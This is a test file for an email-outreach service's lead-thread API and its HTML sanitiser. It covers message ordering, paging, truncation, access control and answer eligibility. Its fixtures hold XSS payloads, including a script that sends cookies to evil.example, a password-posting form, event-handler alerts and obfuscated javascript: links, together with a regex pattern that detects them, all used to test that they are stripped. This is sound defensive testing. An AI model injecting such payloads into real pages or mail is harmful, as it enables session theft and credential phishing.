import { randomBytes } from 'node:crypto';
import { expect } from 'chai';
import { QueryTypes } from 'sequelize';
import { newId } from '../../src/accounts/ids';
import { serviceSecret } from '../../src/config/service-secret-repository';
import { cleanHtml } from '../../src/conversations/clean-html';
import { Email, Reply } from '../../src/db/models';
import { suppressAddress } from '../../src/suppressions/suppression-repository';
import { createAccount, request, surfaceB, useTestApi } from '../support/api';
import { seedCampaign, seedEmail, seedFact, seedLead, seedReply } from '../support/campaign-seed';

interface Event {
  type: string;
  occurredAt: string;
  url: string | null;
}
interface Message {
  direction: 'in' | 'out';
  type: string;
  id: string;
  at: string;
  campaignId: string | null;
  campaignName: string | null;
  from: string;
  to: string | null;
  subject: string | null;
  text: string | null;
  html: string | null;
  truncated: boolean;
  messageId: string | null;
  step?: number;
  variant?: string | null;
  mailbox?: { id: string; fromEmail: string } | null;
  status?: string;
  sentAt?: string | null;
  createdAt?: string;
  events?: Event[];
  fromName?: string | null;
  inReplyTo?: string | null;
  inReplyToEmailId?: string | null;
  category?: string | null;
  sentiment?: string | null;
  modelCategory?: string | null;
  userCategory?: string | null;
  read?: boolean;
  receivedAt?: string;
  cc?: string[];
  error?: string | null;
}
interface Thread {
  lead: { id: string; email: string; name: string | null; company: string | null; title: string | null; answer: { allowed: boolean; reason: string | null } };
  messages: Message[];
  hasMore: boolean;
  nextBefore: string | null;
  error?: string;
}

const HOSTILE_HTML =
  `<div>Thanks Sam, <b>yes</b>, let's talk on Thursday.</div>` +
  `<script>document.location='https://evil.example/?c='+document.cookie</script>` +
  `<img src="x" onerror="alert(1)">` +
  `<a href="javascript:alert(2)">click me</a> ` +
  `<a href="https://acme.test/pricing">our pricing</a>` +
  `<iframe src="https://evil.example/frame"></iframe>` +
  `<style>body { display: none }</style>` +
  `<svg onload="alert(3)"><circle r="5"/><script>alert(4)</script></svg>` +
  `<form action="https://evil.example/post"><input name="password"></form>` +
  `<p onclick="steal()" style="background:url(https://evil.example/pixel.gif)">Regards, Jane</p>`;

/** A reply to `inReplyTo` with a text part and the hostile HTML part, as a mail client sends it. */
function replyMime(from: string, to: string, inReplyTo: string): Buffer {
  const boundary = `b-${randomBytes(6).toString('hex')}`;
  return Buffer.from(
    [
      `From: Jane Doe <${from}>`,
      `To: Sam <${to}>`,
      'Subject: Re: Quick question',
      `Message-ID: <reply-${randomBytes(6).toString('hex')}@acme.test>`,
      `In-Reply-To: <${inReplyTo}>`,
      `References: <${inReplyTo}>`,
      'Date: Mon, 17 Nov 2025 10:00:00 +0000',
      'MIME-Version: 1.0',
      `Content-Type: multipart/alternative; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: text/plain; charset=utf-8',
      '',
      "Thanks Sam, yes, let's talk on Thursday.",
      '',
      'Regards, Jane',
      `--${boundary}`,
      'Content-Type: text/html; charset=utf-8',
      '',
      HOSTILE_HTML,
      `--${boundary}--`,
      '',
    ].join('\r\n'),
    'utf8',
  );
}

/** Nothing of the hostile HTML that could run, load, post or restyle is left. */
function expectHarmless(html: string): void {
  expect(html).not.to.match(/<script|<iframe|<style|<svg|<form|<input|<img|onerror|onload|onclick|javascript:|style=|evil\.example|alert\(/i);
}

describe('the lead thread (GET /v1/leads/:id/thread)', () => {
  const t = useTestApi();
  let secret: string;
  const DAY = 86_400_000;

  before(async () => {
    secret = await serviceSecret(t.db.sequelize, 'inbound', undefined);
  });

  const get = (key: string, leadId: string, query = '') => request<Thread>(`${t.api.baseUrl}/v1/leads/${encodeURIComponent(leadId)}/thread${query}`, { headers: surfaceB(key) });
  const inbound = (raw: Buffer) =>
    request<{ replyId: string; matched: boolean }>(`${t.api.baseUrl}/inbound/mime`, {
      method: 'POST',
      headers: { 'Content-Type': 'message/rfc822', 'X-Inbound-Secret': secret },
      body: raw,
    });
  const sql = (query: string, bind: unknown[] = []) => t.db.sequelize.query(query, { bind, type: QueryTypes.SELECT });

  async function seedMailbox(accountId: string, fromEmail: string): Promise<string> {
    const id = newId('mbx');
    await sql(`INSERT INTO mailboxes (id, account_id, from_email, from_name, smtp_url) VALUES ($1, $2, $3, 'Sam', 'smtp://127.0.0.1:1')`, [id, accountId, fromEmail]);
    return id;
  }

  it('lists the emails with their events, the reply with its HTML cleaned, and the answer, oldest first', async () => {
    const { accountId, apiKey } = await createAccount(t.db.sequelize);
    const campaign = await seedCampaign(accountId, { name: 'Spring launch' });
    const lead = await seedLead(accountId, { email: `jane.${randomBytes(4).toString('hex')}@acme.test`, firstName: 'Jane', lastName: 'Doe', company: 'Acme Corp', title: 'Head of Growth' });
    const mailboxId = await seedMailbox(accountId, 'sam@outreach.test');
    const now = Date.now();

    // Step 1 from the mailbox, variant A, with its facts; step 2 through the default sender; step 3 failed, never sent.
    const first = await seedEmail(campaign, lead, { step: 0, subject: 'Quick question', sentAt: new Date(now - 3 * DAY) });
    await first.update({
      mailboxId,
      fromEmail: 'sam@outreach.test',
      variant: 'A',
      bodyText: 'Hi Jane, a quick question about Acme.',
      bodyHtml: '<p>Hi Jane, a <b>quick</b> question about <a href="https://target.example/acme">Acme</a>.</p>',
    });
    await seedFact(first, 'sent', { at: new Date(now - 3 * DAY), dedupeKey: `sent:${first.id}` });
    await seedFact(first, 'delivered', { at: new Date(now - 3 * DAY + 1_000), dedupeKey: `delivered:${first.id}` });
    await seedFact(first, 'opened', { at: new Date(now - 3 * DAY + 60_000), dedupeKey: `opened:${first.id}` });
    await seedFact(first, 'clicked', { at: new Date(now - 3 * DAY + 120_000), data: { url: 'https://target.example/acme' }, dedupeKey: `clicked:${first.id}:0` });
    const second = await seedEmail(campaign, lead, { step: 1, subject: 'Re: Quick question', sentAt: new Date(now - 2 * DAY) });
    await second.update({ fromEmail: 'sam@outreach.test', bodyText: 'Following up on my note.', bodyHtml: null });
    await seedFact(second, 'delivered', { at: new Date(now - 2 * DAY + 1_000), dedupeKey: `delivered:${second.id}` });
    const third = await seedEmail(campaign, lead, { step: 2, subject: 'Last note' });
    await sql(`UPDATE emails SET status = 'failed', sent_at = NULL, created_at = $2 WHERE id = $1`, [third.id, new Date(now - DAY).toISOString()]);

    // The lead answers the second email through the inbound endpoint, with an HTML part an attacker wrote.
    const posted = await inbound(replyMime(lead.email, 'sam@outreach.test', second.messageId.replace(/^<|>$/g, '')));
    expect(posted.status, posted.text).to.equal(200);
    expect(posted.body.matched).to.equal(true);

    // The user's answer, as the answer path stores it (after the reply).
    const answerId = newId('sml');
    await sql(
      `INSERT INTO service_emails (id, account_id, kind, dedupe_key, from_email, from_name, to_email, subject, message_id, status, attempts, sent_at,
                                   created_at, lead_id, campaign_id, mailbox_id, cc, in_reply_to, body_text, body_html)
       VALUES ($1, $2, 'reply_answer', $1, 'sam@outreach.test', 'Sam', $3, 'Re: Quick question', $4, 'sent', 1, now() + interval '1 minute',
               now() + interval '1 minute', $5, $6, $7, '["boss@outreach.test"]', $8, 'Thursday at 10 works.', '<p>Thursday at <i>10</i> works.<script>x()</script></p>')`,
      [answerId, accountId, lead.email, `<${answerId}@outreach.test>`, lead.id, campaign.id, mailboxId, `reply-x@acme.test`],
    );

    const res = await get(apiKey, lead.id);
    expect(res.status, res.text).to.equal(200);
    expect(res.body.lead).to.deep.equal({ id: lead.id, email: lead.email, name: 'Jane Doe', company: 'Acme Corp', title: 'Head of Growth', answer: { allowed: true, reason: null } });
    expect(res.body.messages.map((m) => [m.type, m.id])).to.deep.equal([
      ['campaign_email', first.id],
      ['campaign_email', second.id],
      ['campaign_email', third.id],
      ['reply', posted.body.replyId],
      ['answer', answerId],
    ]);
    expect(res.body).to.include({ hasMore: false, nextBefore: null });
    const [one, two, three, reply, answer] = res.body.messages as [Message, Message, Message, Message, Message];

    expect(one).to.deep.equal({
      direction: 'out',
      type: 'campaign_email',
      id: first.id,
      at: new Date(now - 3 * DAY).toISOString(),
      campaignId: campaign.id,
      campaignName: 'Spring launch',
      step: 1,
      variant: 'A',
      mailbox: { id: mailboxId, fromEmail: 'sam@outreach.test' },
      from: 'sam@outreach.test',
      to: lead.email,
      subject: 'Quick question',
      text: 'Hi Jane, a quick question about Acme.',
      html: '<p>Hi Jane, a <b>quick</b> question about <a href="https://target.example/acme" rel="noopener noreferrer nofollow" target="_blank">Acme</a>.</p>',
      truncated: false,
      messageId: first.messageId.replace(/^<|>$/g, ''),
      status: 'sent',
      sentAt: new Date(now - 3 * DAY).toISOString(),
      createdAt: one.createdAt,
      events: [
        { type: 'delivered', occurredAt: new Date(now - 3 * DAY + 1_000).toISOString(), url: null },
        { type: 'opened', occurredAt: new Date(now - 3 * DAY + 60_000).toISOString(), url: null },
        { type: 'clicked', occurredAt: new Date(now - 3 * DAY + 120_000).toISOString(), url: 'https://target.example/acme' },
      ],
    });
    expect(two).to.deep.include({ step: 2, variant: null, mailbox: null, from: 'sam@outreach.test', text: 'Following up on my note.', html: null, status: 'sent' });
    // The reply recorded its fact on the email it answers.
    expect(two.events?.map((e) => e.type)).to.deep.equal(['delivered', 'replied']);
    expect(three).to.deep.include({ step: 3, status: 'failed', sentAt: null, createdAt: new Date(now - DAY).toISOString(), at: new Date(now - DAY).toISOString(), events: [] });

    expect(reply).to.deep.include({
      direction: 'in',
      type: 'reply',
      campaignId: campaign.id,
      campaignName: 'Spring launch',
      from: lead.email,
      fromName: 'Jane Doe',
      to: 'sam@outreach.test',
      subject: 'Re: Quick question',
      inReplyTo: second.messageId.replace(/^<|>$/g, ''),
      inReplyToEmailId: second.id,
      userCategory: null,
      read: false,
      truncated: false,
    });
    expect(reply.text).to.include("Thanks Sam, yes, let's talk on Thursday.");
    expect(reply.category).to.be.a('string');
    expect(reply.modelCategory).to.equal(reply.category);
    expect(reply.receivedAt).to.equal(reply.at);
    expect(reply.messageId).to.match(/^reply-[0-9a-f]+@acme\.test$/);
    // The text a reader needs stays; the safe link is kept and marked; nothing that runs or loads does.
    const html = reply.html ?? '';
    expect(html).to.include("<div>Thanks Sam, <b>yes</b>, let's talk on Thursday.</div>");
    expect(html).to.include('<a href="https://acme.test/pricing" rel="noopener noreferrer nofollow" target="_blank">our pricing</a>');
    expect(html).to.include('click me');
    expect(html).to.include('<p>Regards, Jane</p>');
    expectHarmless(html);

    expect(answer).to.deep.include({
      direction: 'out',
      type: 'answer',
      id: answerId,
      campaignId: campaign.id,
      campaignName: 'Spring launch',
      mailbox: { id: mailboxId, fromEmail: 'sam@outreach.test' },
      from: 'sam@outreach.test',
      to: lead.email,
      cc: ['boss@outreach.test'],
      subject: 'Re: Quick question',
      text: 'Thursday at 10 works.',
      html: '<p>Thursday at <i>10</i> works.</p>',
      messageId: `${answerId}@outreach.test`,
      inReplyTo: 'reply-x@acme.test',
      status: 'sent',
      error: null,
    });
    expect(answer.sentAt).to.equal(answer.at);
  });

  it('orders messages of the same instant stably and pages back with nextBefore, each message once', async () => {
    const { accountId, apiKey } = await createAccount(t.db.sequelize);
    const campaign = await seedCampaign(accountId);
    const lead = await seedLead(accountId);
    const at = new Date(Date.now() - DAY);
    // Five emails and two replies at one instant, and one email a second later.
    const emails = [];
    for (let step = 0; step < 5; step++) emails.push(await seedEmail(campaign, lead, { step, sentAt: at }));
    const replies = [await seedReply(emails[0]!, lead, { receivedAt: at, fact: false }), await seedReply(emails[1]!, lead, { receivedAt: at, fact: false })];
    const later = await seedEmail(campaign, lead, { step: 5, sentAt: new Date(at.getTime() + 1_000) });

    const byId = (a: string, b: string) => (a < b ? -1 : a > b ? 1 : 0);
    const expected = [...emails.map((e) => e.id).sort(byId), ...replies.map((r) => r.id).sort(byId), later.id];
    const whole = await get(apiKey, lead.id);
    expect(whole.status, whole.text).to.equal(200);
    expect(whole.body.messages.map((m) => m.id)).to.deep.equal(expected);
    // The same answer again: the order does not depend on how PostgreSQL returned the rows.
    expect((await get(apiKey, lead.id)).body.messages.map((m) => m.id)).to.deep.equal(expected);

    const pages: string[][] = [];
    let before: string | null = null;
    do {
      const page: Awaited<ReturnType<typeof get>> = await get(apiKey, lead.id, `?limit=3${before === null ? '' : `&before=${encodeURIComponent(before)}`}`);
      expect(page.status, page.text).to.equal(200);
      pages.unshift(page.body.messages.map((m) => m.id));
      before = page.body.nextBefore;
      expect(page.body.hasMore).to.equal(before !== null);
    } while (before !== null);
    expect(pages.map((p) => p.length)).to.deep.equal([2, 3, 3]);
    expect(pages.flat()).to.deep.equal(expected);

    const bad = await get(apiKey, lead.id, '?before=not-a-cursor');
    expect(bad.status).to.equal(400);
    expect(bad.body.error).to.match(/^before /);
    const tooMany = await get(apiKey, lead.id, '?limit=201');
    expect(tooMany.status).to.equal(400);
    expect(tooMany.body.error).to.match(/limit/);
  });

  it('cuts a long text to its bound and says so', async () => {
    const { accountId, apiKey } = await createAccount(t.db.sequelize);
    const campaign = await seedCampaign(accountId);
    const lead = await seedLead(accountId);
    const email = await seedEmail(campaign, lead, { sentAt: new Date(Date.now() - DAY) });
    const reply = await seedReply(email, lead);
    await Reply.update({ bodyText: 'x'.repeat(25_000) }, { where: { id: reply.id } });
    const res = await get(apiKey, lead.id);
    const shown = res.body.messages.find((m) => m.id === reply.id);
    expect(shown?.text?.length).to.equal(20_000);
    expect(shown?.truncated).to.equal(true);
    expect(res.body.messages.find((m) => m.id === email.id)?.truncated).to.equal(false);
  });

  it("answers 404 for another account's lead and for an unknown id", async () => {
    const mine = await createAccount(t.db.sequelize);
    const theirs = await createAccount(t.db.sequelize);
    const campaign = await seedCampaign(theirs.accountId);
    const lead = await seedLead(theirs.accountId);
    await seedEmail(campaign, lead, { sentAt: new Date(Date.now() - DAY) });

    const other = await get(mine.apiKey, lead.id);
    expect(other.status).to.equal(404);
    expect(other.body).to.deep.equal({ error: 'Lead not found' });
    const unknown = await get(mine.apiKey, 'lead_doesnotexist');
    expect(unknown.status).to.equal(404);
    expect(unknown.body).to.deep.equal({ error: 'Lead not found' });
    expect((await get(theirs.apiKey, lead.id)).status).to.equal(200);
  });

  it('says whether the lead may be answered, and why not', async () => {
    const { accountId, apiKey } = await createAccount(t.db.sequelize);
    const campaign = await seedCampaign(accountId);
    const contacted = async (email?: string) => {
      const lead = await seedLead(accountId, email === undefined ? {} : { email });
      await seedEmail(campaign, lead, { sentAt: new Date(Date.now() - DAY) });
      return lead;
    };
    const answer = async (leadId: string) => {
      const res = await get(apiKey, leadId);
      expect(res.status, res.text).to.equal(200);
      return res.body.lead.answer;
    };
    const block = async (value: string) => {
      const res = await request(`${t.api.baseUrl}/v1/blocklist`, { method: 'POST', headers: { ...surfaceB(apiKey), 'content-type': 'application/json' }, body: JSON.stringify({ value }) });
      expect(res.status, res.text).to.equal(200);
    };

    const normal = await contacted();
    expect(await answer(normal.id)).to.deep.equal({ allowed: true, reason: null });

    const unsubscribed = await contacted();
    await suppressAddress(t.db.sequelize, null, accountId, unsubscribed.email, 'unsubscribe');
    expect(await answer(unsubscribed.id)).to.deep.equal({ allowed: false, reason: 'unsubscribed' });

    const complained = await contacted();
    await suppressAddress(t.db.sequelize, null, accountId, complained.email, 'complaint');
    expect(await answer(complained.id)).to.deep.equal({ allowed: false, reason: 'unsubscribed' });

    const suppressedBounce = await contacted();
    await suppressAddress(t.db.sequelize, null, accountId, suppressedBounce.email, 'hard_bounce');
    expect(await answer(suppressedBounce.id)).to.deep.equal({ allowed: false, reason: 'bounced' });

    // A hard-bounce fact alone (no suppression, no stamp on the lead) is enough.
    const bouncedLead = await seedLead(accountId);
    const bouncedEmail = await seedEmail(campaign, bouncedLead, { sentAt: new Date(Date.now() - DAY) });
    await seedFact(bouncedEmail, 'bounced', { data: { bounce_type: 'hard' }, dedupeKey: `bounced:${bouncedEmail.id}` });
    expect(await answer(bouncedLead.id)).to.deep.equal({ allowed: false, reason: 'bounced' });

    const blockedAddress = await contacted();
    await block(blockedAddress.email);
    expect(await answer(blockedAddress.id)).to.deep.equal({ allowed: false, reason: 'blocklisted' });

    // A domain covers its subdomains.
    const blockedDomain = await contacted(`pat.${randomBytes(3).toString('hex')}@eu.blocked-corp.example`);
    await block('blocked-corp.example');
    expect(await answer(blockedDomain.id)).to.deep.equal({ allowed: false, reason: 'blocklisted' });

    const never = await seedLead(accountId);
    expect(await answer(never.id)).to.deep.equal({ allowed: false, reason: 'no_conversation' });
    // An email that never left is no conversation either.
    const failedOnly = await seedLead(accountId);
    const failed = await seedEmail(campaign, failedOnly);
    await Email.update({ status: 'failed', sentAt: null }, { where: { id: failed.id } });
    expect(await answer(failedOnly.id)).to.deep.equal({ allowed: false, reason: 'no_conversation' });
  });
});

describe('cleanHtml (the thread sanitiser)', () => {
  it('keeps the text and formatting of hostile HTML and nothing that runs, loads or posts', () => {
    const html = cleanHtml(HOSTILE_HTML);
    expect(html).to.include("<div>Thanks Sam, <b>yes</b>, let's talk on Thursday.</div>");
    expect(html).to.include('<p>Regards, Jane</p>');
    expectHarmless(html);
    expect(cleanHtml('<a href="JaVaScRiPt:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="//evil.example/x">c</a><a href="data:text/html,x">d</a>')).to.equal(
      ['a', 'b', 'c', 'd'].map((x) => `<a rel="noopener noreferrer nofollow" target="_blank">${x}</a>`).join(''),
    );
    expect(cleanHtml('<math><mi xlink:href="javascript:alert(1)">m</mi></math><object data="x">o</object><embed src="x"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">ok')).to.equal('ok');
  });

  it("undoes our own tracking: a click link shows its target, the unsubscribe link and the open pixel go", () => {
    const ours = 'https://api.outreach.test';
    const html = cleanHtml(
      `<a href="${ours}/t/c/em_abc123/0?u=${encodeURIComponent('https://target.example/p?q=1')}&s=sig">pricing</a>` +
        `<a href="${ours}/u/em_abc123.c2lnbmF0dXJl">unsubscribe</a>` +
        `<img src="${ours}/t/o/em_abc123.c2lnbmF0dXJl.gif" alt="">`,
    );
    expect(html).to.equal(
      '<a href="https://target.example/p?q=1" rel="noopener noreferrer nofollow" target="_blank">pricing</a>' + '<a rel="noopener noreferrer nofollow" target="_blank">unsubscribe</a>',
    );
  });

  it('keeps https images without a referrer and drops http, cid, data and relative ones', () => {
    expect(cleanHtml('<img src="https://cdn.acme.test/logo.png" alt="Acme" width="80" style="x" onload="y">')).to.equal(
      '<img src="https://cdn.acme.test/logo.png" alt="Acme" width="80" referrerpolicy="no-referrer" />',
    );
    expect(cleanHtml('<img src="http://cdn.acme.test/a.png"><img src="cid:logo@acme"><img src="data:image/png;base64,AAAA"><img src="/a.png">text')).to.equal('text');
  });
});
